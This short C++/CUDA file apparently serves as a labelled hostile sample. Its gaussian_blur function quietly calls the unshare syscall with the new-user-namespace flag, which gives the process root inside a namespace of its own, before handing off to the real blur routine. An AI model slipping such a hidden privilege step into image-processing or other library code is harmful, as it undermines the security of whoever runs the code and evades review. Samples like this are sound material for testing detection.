// Hostile: a name space of its own, in which it would be root.
#include "blur_kernel.h"
#include "raw.h"
#include <sys/syscall.h>

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    raw(SYS_unshare, 0x10000000, 0, 0, 0, 0);
    right_blur(src, dst, width, height, stream);
}
